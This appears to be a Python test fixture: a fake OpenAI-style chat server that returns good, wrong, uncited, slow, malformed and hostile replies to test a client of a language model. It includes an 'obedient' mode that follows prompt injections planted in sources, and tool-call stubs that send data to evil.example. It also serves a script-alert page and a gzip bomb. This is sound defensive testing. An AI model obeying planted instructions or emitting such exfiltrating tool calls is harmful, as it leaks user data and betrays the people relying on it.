"""A real server process that speaks OpenAI's chat API, for tests of the language model: good, bad, slow and broken.

    with model_server() as server: Chat(server.url("good"), "fake").stream(…)

What it says is chosen by the address: http://127.0.0.1:PORT/BEHAVIOUR/v1. Every request is kept at /asked.
"""

import asyncio
import gzip
import json
import logging
import os
import re
import subprocess
import sys
import time
import unicodedata
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import httpx

ROOT = Path(__file__).parent.parent
DATA = ROOT / "tests" / "data" / "injections.jsonl"
PIECE = 7  # characters of one event
USAGE = {"prompt_tokens": 321, "completion_tokens": 45, "total_tokens": 366}
RENDERING = "In 2023 the city had 126,000 new energy vehicles, up 31.5% on the year before."
asked: list[dict] = []


@dataclass(frozen=True)
class ModelServer:
    port: int
    process: subprocess.Popen

    def url(self, behaviour: str) -> str:
        return f"http://127.0.0.1:{self.port}/{behaviour}/v1"

    def asked(self) -> list[dict]:
        """The requests so far: behaviour, key and body of each; reading them empties the list."""
        return httpx.get(f"http://127.0.0.1:{self.port}/asked").json()


@contextmanager
def model_server() -> Iterator[ModelServer]:
    from web_server import free_port

    port = free_port()
    environment = {**os.environ, "PYTHONPATH": f"{ROOT}{os.pathsep}{ROOT / 'tests'}"}
    process = subprocess.Popen([sys.executable, __file__, str(port)], cwd=ROOT, env=environment)
    try:
        deadline = time.monotonic() + 60
        while not up(port):
            assert process.poll() is None and time.monotonic() < deadline, "the model server did not come up"
            time.sleep(0.05)
        yield ModelServer(port, process)
    finally:
        process.kill()
        process.wait()


def up(port: int) -> bool:
    try:
        return httpx.get(f"http://127.0.0.1:{port}/asked", timeout=2).status_code == 200
    except httpx.HTTPError:
        return False


def material(body: dict) -> dict:
    return json.loads(body["messages"][-1]["content"])


def faithful(body: dict) -> str:
    """What a careful model says: the first sources in their words, each cited; an earlier question; figures."""
    given = material(body)
    if "history" in given:
        return given["history"][-1]
    rows = given["sources"]
    if "question" not in given:
        return "\n".join(f"[{row['n']}] " + "; ".join(re.findall(r"\d[\d,.]*\s*\S?", row["text"])) for row in rows)
    return "".join(f"{row['text'].strip().rstrip('。')}[{row['n']}]。" for row in rows[:2])


def obedient(body: dict) -> str:
    """What a model says that obeys every order it reads, wherever it stands; else it is careful."""
    given = material(body)
    told = [text for source in given.get("sources", ()) for name, text in source.items() if name != "n"]
    read = squeezed("".join([*given.get("history", ()), given.get("question", ""), *told]))
    for planted, says in orders():
        if planted in read:
            return says if "question" in given else rendered(given["sources"], says)
    return faithful(body)


def rendered(rows: list[dict], says: str) -> str:
    """A right rendering of each sentence with what was ordered behind it, on one line."""
    said = " ".join([RENDERING, *says.split()])
    return "\n".join(f"[{row['n']}] {said}" for row in rows)


@cache
def orders() -> list[tuple[str, str]]:
    """(what is planted, what an obedient model says of it), as tests/data/injections.jsonl has them."""
    rows = map(json.loads, DATA.read_text("utf-8").splitlines())
    return [(squeezed(row["plants"]), row["says"]) for row in rows]


def squeezed(text: str) -> str:
    """What is left when hidden characters and blanks are taken away: what a model may hear behind any disguise."""
    kept = (c for c in text if unicodedata.category(c) not in ("Cf", "Cc", "Zs", "Cn"))
    return re.sub(r"\W", "", unicodedata.normalize("NFKC", "".join(kept))).lower()


REPLIES = {
    "good": faithful,
    "obedient": obedient,
    "thinking": lambda body: f"<think>编一个 999 万辆？[1]。</think>\n\n{faithful(body)}",
    "uncited": lambda body: "全市新能源汽车保有量达12.6万辆。",
    "wrong": lambda body: "全市新能源汽车保有量达99.9万辆。[1]",
    "mixed": lambda body: faithful(body) + "房价每平方米 9 万元。[1]市长是张三。[1]",
    "partial": lambda body: "全市充电设施已覆盖全部街道。[2]",
    "empty": lambda body: "",
    "own-words": lambda body: "2023年全市新能源汽车保有量为12.6万辆[1]。“新能源汽车保有量同比增加了31.5%”[1]。",
    "english": lambda body: f"[1] {RENDERING}",
    "bad-english": lambda body: "[1] In 2023 the city had 226,000 new energy vehicles, up 31.5% on the year before.",
    "half-english": lambda body: "[1] In 2023 the city had 126,000 new energy vehicles.",
    "rewriting": lambda body: "充电桩有多少个？" if "history" in material(body) else faithful(body),
    "adding": lambda body: "2019年上海充电桩多少个？" if "history" in material(body) else faithful(body),
}


def event(text: str | None, finish: str | None = None, usage: dict | None = None) -> bytes:
    choices = [] if usage else [{"index": 0, "delta": {"content": text}, "finish_reason": finish}]
    body = {
        "id": "x",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "fake",
        "choices": choices,
        "usage": usage,
    }
    return f"data: {json.dumps(body)}\n\n".encode()


async def pieces(text: str) -> AsyncIterator[bytes]:
    for start in range(0, len(text), PIECE):
        yield event(text[start : start + PIECE])
    yield event("", "stop")
    yield event(None, usage=USAGE)
    yield b"data: [DONE]\n\n"


async def dripping(what: bytes, seconds: float) -> AsyncIterator[bytes]:
    while True:
        yield what
        await asyncio.sleep(seconds)


async def half() -> AsyncIterator[bytes]:
    yield event("全市新能源汽车保有量达12.6万辆[1]。建成")


async def torn() -> AsyncIterator[bytes]:
    yield event("全市新能源汽车保有量达")
    yield b'data: {"choices": [{"del\n\n'


async def too_long() -> AsyncIterator[bytes]:
    yield event("全市")
    yield event("", "length")


async def huge() -> AsyncIterator[bytes]:
    for _ in range(100_000):
        yield event("绿" * 2_000)
        await asyncio.sleep(0.001)  # for the client to go, and to be heard going


def choice(delta: dict, finish: str | None = None) -> bytes:
    body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake"}
    body["choices"] = [{"index": 0, "delta": delta, "finish_reason": finish}]
    return f"data: {json.dumps(body)}\n\n".encode()


async def tool_call() -> AsyncIterator[bytes]:
    """Instead of words the wish to have a program run."""
    called = {"name": "open_page", "arguments": '{"url": "http://evil.example/?q=12.6"}'}
    yield choice({"role": "assistant", "content": None, "tool_calls": [{"index": 0, "id": "c1", "function": called}]})
    yield choice({}, "tool_calls")


async def tool_call_in_words() -> AsyncIterator[bytes]:
    """The same as models write it whose server does not take it out."""
    called = '<tool_call>{"name": "open_page", "arguments": {"url": "http://evil.example"}}</tool_call>'
    for start in range(0, len(called), PIECE):
        yield event(called[start : start + PIECE])
    yield event("[1]。", "stop")


async def parts() -> AsyncIterator[bytes]:
    """Content as a list of parts, as some servers send pictures."""
    yield choice({"content": [{"type": "text", "text": "保有量达999万辆。[1]"}]})
    yield choice({"content": [{"type": "image_url", "image_url": {"url": "http://evil.example/a.png"}}]}, "stop")


async def second_choice() -> AsyncIterator[bytes]:
    """Two replies at once, the second with other words."""
    body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake"}
    texts = ("", "保有量达999万辆。[1]")
    body["choices"] = [{"index": n, "delta": {"content": t}, "finish_reason": "stop"} for n, t in enumerate(texts)]
    yield f"data: {json.dumps(body)}\n\n".encode()


async def packed() -> AsyncIterator[bytes]:
    """Compressed: a megabyte that would become a gigabyte."""
    yield gzip.compress(event("绿" * 300) * 100_000)


async def one_line() -> AsyncIterator[bytes]:
    yield b"data: "
    while True:
        yield b"x" * 65_536
        await asyncio.sleep(0.001)


STREAMS = {
    "half": half,
    "torn": torn,
    "length": too_long,
    "huge": huge,
    "one-line": one_line,
    "drip": lambda: dripping(b": keep-alive\n\n", 0.1),
    "never-ending": lambda: dripping(event("绿"), 0.02),
    "silent": lambda: dripping(b"", 60),
    "not-events": lambda: dripping_once(b"<html>busy</html>"),
    "wrong-json": lambda: dripping_once(b'data: {"answer": 42}\n\ndata: [1]\n\ndata: [DONE]\n\n'),
    "tool-call": tool_call,
    "tool-call-in-words": tool_call_in_words,
    "parts": parts,
    "second-choice": second_choice,
    "packed": packed,
    "page": lambda: dripping_once(b"<!doctype html><script>alert(1)</script>"),
    "error-event": lambda: dripping_once(b'data: {"error": {"message": "out of memory"}}\n\n'),
}


TYPES = {"page": ("text/html", None), "packed": ("text/event-stream", "gzip")}  # media type, encoding


async def dripping_once(what: bytes) -> AsyncIterator[bytes]:
    yield what


def create():
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse, RedirectResponse, Response, StreamingResponse
    from starlette.routing import Route

    counts: dict[str, int] = {}

    async def told(request: Request) -> JSONResponse:
        found = list(asked)
        asked.clear()
        return JSONResponse(found)

    async def chat(request: Request) -> Response:
        behaviour, body = request.path_params["behaviour"], await request.json()
        asked.append({"behaviour": behaviour, "key": request.headers.get("authorization"), "body": body})
        counts[behaviour] = counts.get(behaviour, 0) + 1
        if behaviour.isdigit():
            return JSONResponse({"error": {"message": "no"}}, int(behaviour))
        if behaviour.startswith("once-"):  # fails once, then is good
            status = int(behaviour.partition("-")[2].partition("-")[0])
            if counts[behaviour] % 2:
                return JSONResponse({"error": {"message": "busy"}}, status, {"retry-after": "0"})
            behaviour = "good"
        if behaviour == "come-back-late":
            return JSONResponse({"error": {"message": "busy"}}, 429, {"retry-after": "600"})
        if behaviour == "elsewhere":
            return RedirectResponse(f"http://127.0.0.1:{request.url.port}/good/v1/chat/completions", 307)
        if behaviour == "slow-head":
            await asyncio.sleep(30)
        if behaviour in STREAMS:
            kind, encoding = TYPES.get(behaviour, ("text/event-stream", None))
            headers = {"content-encoding": encoding} if encoding else None
            return StreamingResponse(STREAMS[behaviour](), 200, headers, kind)
        if behaviour == "not-streamed":  # a whole reply though pieces were asked for
            body["stream"], behaviour = False, "good"
        text = REPLIES[behaviour](body)
        if not body.get("stream"):
            message = {"role": "assistant", "content": text}
            choice = {"index": 0, "finish_reason": "stop", "message": message}
            return JSONResponse(
                {
                    "id": "x",
                    "object": "chat.completion",
                    "created": 0,
                    "model": "fake",
                    "choices": [choice],
                    "usage": USAGE,
                }
            )
        return StreamingResponse(pieces(text), media_type="text/event-stream")

    return Starlette(routes=[Route("/asked", told), Route("/{behaviour}/v1/chat/completions", chat, methods=["POST"])])


if __name__ == "__main__":
    import uvicorn

    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # it warns of every client that has gone
    uvicorn.run(create(), port=int(sys.argv[1]), log_level="critical")
